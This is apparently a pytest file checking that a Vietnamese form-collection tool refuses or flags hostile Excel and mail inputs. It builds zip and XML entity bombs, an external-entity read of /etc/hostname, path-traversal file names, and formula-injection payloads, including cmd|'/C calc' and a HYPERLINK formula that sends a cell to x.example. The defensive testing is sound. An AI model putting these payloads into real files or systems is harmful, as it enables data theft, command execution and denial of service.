"""Harmful and broken mails in `collect`: reported by name, at little cost, without loss to others.

Each case lies beside two good forms and is collected in a process of its own, in at most the 300 MB of the contract.
The contract's 5 seconds are measured by `tests/bench/hostile.py`.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from de06_xl.collect.forms import sheet as sheet_of_form
from de06_xl.incoming.containers.package import unpack
from de06_xl.model.book import Book
from de06_xl.model.responses import ResponseStatus
from de06_xl.system import files, shipped
from de06_xl.workbook.file_grid import FileGrid
from de06_xl.workbook.reading.book import read_book
from de06_xl.workbook.writing.next_period import unreported_blocks
from tests.support.command_line import content
from tests.support.form_file import FormFile
from tests.support.incoming_mail import attachment, eml
from tests.support.portable_names import UNPORTABLE, portable

MEGABYTES = 300
HANG = 120
"""Seconds after which a child is given up: the machine may be busy with other tests."""

CHILD = """
import json, re, sys
from de06_xl.cli.app import de06
from de06_xl.cli.run import run
status = run(de06, sys.argv[1:])
with open("/proc/self/status") as kept:
    peak = int(re.search(r"VmHWM:\\s*(\\d+)", kept.read())[1]) // 1024
print(json.dumps({"status": status, "megabytes": peak}))
"""

GOOD = ("BHXH", "RG")
SHEET = "xl/worksheets/sheet1.xml"
TYPES = "[Content_Types].xml"
HOSTILE_TEXTS = (
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
)


@cache
def form(unit: str) -> bytes:
    """A unit's filled form of the sample's mailbox."""
    with zipfile.ZipFile(shipped.path_of(shipped.SAMPLE_MAILBOX)) as inbox:
        return inbox.read(f"Phieu_2022-05_{unit}.xlsx")


@cache
def master() -> bytes:
    """The sample's workbook before anything was collected."""
    grid = FileGrid(shipped.path_of(shipped.SAMPLE_WORKBOOK))
    return grid.copy_with(unreported_blocks(read_book(grid, "So.xlsx")))


def parts(data: bytes) -> dict[str, bytes]:
    return unpack(data, "phiếu", "sổ Excel .xlsx")


def with_parts(unit: str, **changed: bytes) -> bytes:
    """The unit's form with its sheet ("sheet") exchanged, or more parts by their paths."""
    return files.pack(parts(form(unit)) | {SHEET if name == "sheet" else name: part for name, part in changed.items()})


def with_cell(sheet: bytes, cell: str, inside: str, kind: str = "") -> bytes:
    """The sheet's part with what stands in one cell exchanged."""
    found = re.compile(rb'<c r="%s"((?: s="\d+")?)[^>]*?(?:/>|>.*?</c>)' % cell.encode(), re.DOTALL)
    made, count = found.subn(
        lambda match: f'<c r="{cell}"{match[1].decode()}{kind}>{inside}</c>'.encode(), sheet, count=1
    )
    assert count == 1, cell
    return made


def first_figure(unit: str) -> str:
    file = FormFile(form(unit))
    return file.place(next(iter(file.figures)), "value").cell


def text_cell(unit: str) -> str:
    """The cell of the unit's first paragraph."""
    file = FormFile(form(unit))
    found = file.table(sheet_of_form.TEXTS)
    assert found
    return found.row(file.sections[0][1]).place("text").cell


# What comes in ------------------------------------------------------------------------------------------


@cache
def zip_bomb() -> bytes:
    """A zip of one entry that unpacks to 100 MB."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("phieu.xlsx", "w") as entry:
        for _ in range(100):
            entry.write(bytes(1024 * 1024))
    return stream.getvalue()


def lying(data: bytes, size: int, reported: int) -> bytes:
    """The zip with the size of what it unpacks to exchanged, wherever it stands."""
    told_bytes = reported.to_bytes(4, "little")
    assert data.count(size.to_bytes(4, "little")) >= 1
    return data.replace(size.to_bytes(4, "little"), told_bytes)


def zip_bomb_that_lies() -> bytes:
    """Its directory says that 1,000 bytes come out."""
    return lying(zip_bomb(), 100 * 1024**2, 1_000)


def bomb_in_a_form_that_lies() -> bytes:
    return lying(bomb_in_a_form(), 100 * 1024**2, 1_000)


def nested_bomb() -> bytes:
    """Twenty zips of twenty zips of 100 MB: 40 GB in all."""
    return zip_of_twenty(zip_of_twenty(zip_bomb()))


def zip_of_twenty(data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(f"{number}.zip", data)
    return stream.getvalue()


@cache
def bomb_in_a_form() -> bytes:
    """A form whose sheet unpacks to 100 MB of blanks."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts(form("PVHCC")).items():
            if name != SHEET:
                archive.writestr(name, part)
        with archive.open(SHEET, "w") as entry:
            for _ in range(100):
                entry.write(b" " * 1024 * 1024)
    return stream.getvalue()


def with_doctype(doctype: str, use: str) -> bytes:
    sheet = parts(form("PVHCC"))[SHEET]
    sheet = with_cell(sheet, first_figure("PVHCC"), f"<is><t>{use}</t></is>", ' t="inlineStr"')
    head = re.match(rb"<\?xml[^>]*\?>", sheet)
    start = head.end() if head else 0
    return with_parts("PVHCC", sheet=sheet[:start] + doctype.encode() + sheet[start:])


def xml_bomb() -> bytes:
    entities = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return with_doctype(f"<!DOCTYPE worksheet [{''.join(entities)}]>", "&a9;")


def external_entity() -> bytes:
    return with_doctype('<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;")


def external_link() -> bytes:
    """A figure that is a formula over a workbook elsewhere, with a stored result."""
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    target = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file:///\\\\x.example\\chung\\so.xlsx" TargetMode="External"/></Relationships>'
    )
    cell = first_figure("PVHCC")
    stood = FormFile(form("PVHCC")).sheet[cell].value
    sheet = with_cell(parts(form("PVHCC"))[SHEET], cell, f"<f>[1]Sheet1!A1</f><v>{stood}</v>")
    added = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": target,
    }
    return with_parts("PVHCC", sheet=sheet, **added)


def macros() -> bytes:
    return with_parts("PVHCC", **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)})


MILLION = 1_048_576


def rows_to_the_last(cell: str) -> bytes:
    """A form with rows down to the last one that a sheet can have, each with this below the form's own."""
    sheet = parts(form("PVHCC"))[SHEET]
    first = max(int(number) for number in re.findall(rb'<row r="(\d+)"', sheet)) + 1
    row = f'<row r="{{0}}">{cell}</row>' if cell else '<row r="{0}"/>'
    rows = "".join(map(row.format, range(first, MILLION + 1)))
    return with_parts("PVHCC", sheet=sheet.replace(b"</sheetData>", f"{rows}</sheetData>".encode()))


def million_rows_of_figures() -> bytes:
    return rows_to_the_last('<c r="A{0}"><v>1</v></c>')


def million_rows_with_a_format() -> bytes:
    return rows_to_the_last('<c r="A{0}" s="1"/>')


def million_empty_rows() -> bytes:
    """Rows without a cell: no harm, the form is read."""
    return rows_to_the_last("")


def one_far_cell() -> bytes:
    sheet = parts(form("PVHCC"))[SHEET]
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return with_parts("PVHCC", sheet=sheet.replace(b"</sheetData>", far))


def formula_without_result() -> bytes:
    return with_parts("PVHCC", sheet=with_cell(parts(form("PVHCC"))[SHEET], first_figure("PVHCC"), "<f>1+1</f>"))


def encrypted() -> bytes:
    stream = io.BytesIO()
    OOXMLFile(io.BytesIO(form("PVHCC"))).encrypt("mat-khau", stream)
    return stream.getvalue()


def another_units() -> bytes:
    """A mail of one unit with the form of another."""
    return eml(attachment(form("PVHCC")), sender=b"ab@kiengiang.example")


TRICKS = ("../../../thoat.xlsx", "..\\..\\thoat.xlsx", "/tmp/thoat.xlsx", "C:\\thoat.xlsx")


def tricks() -> list[tuple[str, bytes]]:
    """Names that would lead out of a folder, each with a form; no two files are alike."""
    return [
        (name, with_parts("PVHCC", **{"docProps/them.xml": b"<x/>" * number})) for number, name in enumerate(TRICKS, 1)
    ]


def zipped_with_tricks() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in tricks():
            archive.writestr(zipfile.ZipInfo(name), data)
    return stream.getvalue()


def attached_with_tricks() -> bytes:
    header = b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="'
    attached = [attachment(data, header + name.replace("\\", "\\\\").encode() + b'"') for name, data in tricks()]
    return eml(*attached, sender=b"pvhcc@kiengiang.example")


@dataclass(frozen=True, slots=True)
class Case:
    """A file that comes in by this name, the state that it ends in and a piece of the sentence that says why."""

    name: str
    made: Callable[[], bytes]
    status: ResponseStatus
    reported: str


USED, REFUSED, FAULTY = ResponseStatus.USED, ResponseStatus.REFUSED, ResponseStatus.FAULTY
CASES = (
    Case("bom.zip", zip_bomb, REFUSED, "Lớn hơn 30 MB"),
    Case("bom.xlsx", bomb_in_a_form, REFUSED, "Giải nén ra quá lớn"),
    Case("thuc the.xlsx", xml_bomb, REFUSED, "không an toàn"),
    Case("ngoai.xlsx", external_entity, REFUSED, "không an toàn"),
    Case("lien ket.xlsx", external_link, USED, "liên kết tới tệp khác"),
    Case("macro.xlsm", macros, USED, "có macro; chương trình không chạy macro"),
    Case("noi doi.zip", zip_bomb_that_lies, REFUSED, "Bị hỏng"),
    Case("noi doi.xlsx", bomb_in_a_form_that_lies, REFUSED, "Giải nén ra quá lớn"),
    Case("o xa.xlsx", one_far_cell, REFUSED, "XFD1048576"),
    Case("trieu so.xlsx", million_rows_of_figures, REFUSED, "quá mức an toàn"),
    Case("trieu o.xlsx", million_rows_with_a_format, REFUSED, "quá mức an toàn"),
    Case("trieu hang.xlsx", million_empty_rows, USED, ""),
    Case("khong ket qua.xlsx", formula_without_result, FAULTY, "công thức chưa có kết quả"),
    Case("mat khau.xlsx", encrypted, REFUSED, "đặt mật khẩu"),
    Case("cut.xlsx", lambda: form("PVHCC")[:-2000], REFUSED, "Bị hỏng hoặc tải về thiếu"),
    Case("chuong trinh.xlsx", lambda: b"MZ\x90\0\3\0\0\0" + bytes(500), REFUSED, "Là chương trình"),
    Case("mao danh.eml", another_units, ResponseStatus.UNCONFIRMED, "gửi từ hộp thư của AB"),
)


# Collecting ---------------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A workbook with two good forms in its inbox."""
    folder = tmp_path / "ngoài" / "sổ"
    inbox = folder / "phieu_nhan"
    inbox.mkdir(parents=True)
    (folder / "So.xlsx").write_bytes(master())
    for unit in GOOD:
        (inbox / f"Phieu_{unit}.xlsx").write_bytes(form(unit))
    return folder


def collected(folder: Path) -> Book:
    """The workbook after a run in a child, which held to the limits and left everything else alone."""
    before = content(folder.parents[1])
    ran = subprocess.run(
        [sys.executable, "-c", CHILD, "collect", folder / "So.xlsx"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=True,
        cwd=folder.parent,
        timeout=HANG,
    )
    reported = json.loads(ran.stdout.splitlines()[-1])
    assert "Traceback" not in ran.stderr
    assert reported["status"] in {0, 1}
    assert reported["megabytes"] < MEGABYTES
    after = content(folder.parents[1])
    home = folder.relative_to(folder.parents[1])
    for path in before.keys() - {str(home / "So.xlsx")}:
        assert after[path] == before[path], f"{path} was touched"
    for path in after.keys() - before.keys():
        assert Path(path).parts[2:3] in {("phieu_gui",), ("sao_luu",)}, f"{path} was written"
    assert formulas(folder / "So.xlsx") == formulas_before(), "no formula comes from outside"
    book = read_book(FileGrid(folder / "So.xlsx"), "So.xlsx", submissions=True)
    states = {row.unit: row.status for row in book.received if Path(row.file).name.startswith("Phieu_")}
    assert states == dict.fromkeys(GOOD, USED), "the good forms came in"
    figures = [one for one in book.submissions if one.unit in GOOD and one.value is not None]
    assert {one.unit for one in figures} == set(GOOD)
    return book


def formulas(workbook: Path) -> set[tuple[str, str, str]]:
    """Every formula of a workbook with where it stands."""
    return formulas_in(workbook.read_bytes())


@cache
def formulas_before() -> set[tuple[str, str, str]]:
    return formulas_in(master())


def formulas_in(workbook: bytes) -> set[tuple[str, str, str]]:
    return {
        (name, cell.decode(), formula.decode())
        for name, part in parts(workbook).items()
        if name.startswith("xl/worksheets/sheet")
        for cell, formula in re.findall(rb'<c r="([A-Z]+[0-9]+)"[^>]*>(<f\b[^>]*/>|<f\b.*?</f>)', part, re.DOTALL)
    }


@pytest.mark.few(0, 4)
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_what_means_harm_is_told_by_name_and_the_other_forms_come_in(case: Case, folder: Path) -> None:
    (folder / "phieu_nhan" / case.name).write_bytes(case.made())
    book = collected(folder)
    (row,) = [row for row in book.received if case.name in row.file]
    assert row.status is case.status, row
    assert case.reported in row.reason
    if case.status is not USED:
        assert "hãy " in row.reason or "báo cho người gửi" in row.reason, row.reason


@pytest.mark.thorough
def test_a_bomb_of_zips_in_zips_is_opened_to_a_bound(folder: Path) -> None:
    (folder / "phieu_nhan" / "long nhau.zip").write_bytes(nested_bomb())
    rows = [row for row in collected(folder).received if "long nhau.zip" in row.file]
    assert {row.status for row in rows} == {REFUSED}
    assert 1 < len(rows) < 20
    assert "Giải nén ra hơn 200 MB nên không mở tiếp" in rows[-1].reason


@pytest.mark.thorough
def test_names_that_windows_forbids_or_nobody_can_read_are_shown_plainly_and_never_stored(folder: Path) -> None:
    """Names that Linux takes: from a mail program, another system or a damaged disk."""
    inbox = os.fsencode(folder / "phieu_nhan")
    names = [*UNPORTABLE, b"\xff\xfe hong \xc3.xlsx", b"x" * 250 + b".xlsx"]
    for number, name in enumerate(names):
        with open(inbox + b"/" + name, "wb") as file:  # noqa: PTH123 - no path of text
            file.write(f"%PDF-1.4 {number}".encode())
    with open(inbox + b"/to \xff\n\xe2\x80\xaefile.xlsx", "wb") as file:  # noqa: PTH123 - as above
        file.truncate(200 * 1024**2)
    book = collected(folder)
    rows = [row for row in book.received if row.unit not in GOOD]
    assert len(rows) == len(names) + 1
    assert all(row.file.isprintable() and row.file.startswith("phieu_nhan/") for row in rows), rows
    assert len({row.sha256 for row in rows}) == len(rows)
    stored = [path.name for path in (folder / "phieu_gui").rglob("*.eml")]
    assert len(stored) >= len(names)
    assert all(portable(name) for name in stored), stored


@pytest.mark.thorough
def test_a_file_of_200_mb_is_not_read(folder: Path) -> None:
    with (folder / "phieu_nhan" / "to.xlsx").open("wb") as file:
        file.truncate(200 * 1024**2)
    (row,) = [row for row in collected(folder).received if "to.xlsx" in row.file]
    assert row.status is REFUSED
    assert "Lớn hơn 100 MB" in row.reason


@pytest.mark.thorough
@pytest.mark.few(1)
@pytest.mark.parametrize("stored", [True, False], ids=["results of formulas", "texts"])
def test_formulas_in_text_cells_are_texts_in_the_master(folder: Path, stored: bool) -> None:
    at = text_cell("RG")
    sheets = [parts(form("RG"))[SHEET]] * len(HOSTILE_TEXTS)
    for number, (sheet, text) in enumerate(zip(sheets, HOSTILE_TEXTS, strict=True), 1):
        shown = escape(text, {"\t": "&#9;"})
        inside = (
            f"<f>{escape(HOSTILE_TEXTS[0][1:])}</f><v>{shown}</v>"
            if stored
            else f'<is><t xml:space="preserve">{shown}</t></is>'
        )
        kind = ' t="str"' if stored else ' t="inlineStr"'
        name = f"Phieu_{'RG' if number == 1 else f'x{number}'}.xlsx"
        (folder / "phieu_nhan" / name).write_bytes(with_parts("RG", sheet=with_cell(sheet, at, inside, kind)))
    workbook = folder / "So.xlsx"
    ran = subprocess.run(
        [sys.executable, "-c", CHILD, "collect", workbook], capture_output=True, check=True, timeout=HANG
    )
    assert json.loads(ran.stdout.splitlines()[-1])["megabytes"] < MEGABYTES
    assert formulas(workbook) == formulas_before()
    book = read_book(FileGrid(workbook), workbook.name, submissions=True)
    texts = {
        one.text.strip() for one in book.submissions if one.text and one.unit == "RG" and one.cell.endswith(f"!{at}")
    }
    assert texts == {text.strip() for text in HOSTILE_TEXTS}


@pytest.mark.thorough
@pytest.mark.parametrize("made", [zipped_with_tricks, attached_with_tricks], ids=["zip", "mail"])
def test_a_name_is_never_a_path(made: Callable[[], bytes], folder: Path) -> None:
    (folder / "phieu_nhan" / "duong dan").write_bytes(made())
    rows = [row for row in collected(folder).received if "duong dan" in row.file]
    assert sorted(row.status.value for row in rows) == ["dùng", "đã thay", "đã thay", "đã thay"]
    for row in rows:
        assert row.file.endswith("thoat.xlsx")
        assert not re.search(r"\.\.|\\|:|//|› /", row.file), row.file
